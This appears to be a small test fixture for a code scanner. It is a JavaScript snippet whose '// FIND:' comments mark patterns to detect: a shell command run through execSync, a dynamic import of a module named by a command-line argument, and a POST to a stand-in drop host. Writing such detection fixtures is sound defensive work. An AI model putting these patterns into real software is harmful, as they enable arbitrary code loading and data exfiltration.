const { execSync } = await import('child_process');
execSync('id'); // FIND: javascript.process
const name: string = process.argv[2];
const mod = await import(name); // FIND: javascript.reflection
await fetch('https://drop.example.net/' + name, { method: 'POST' }); // FIND: javascript.network
console.log(mod);
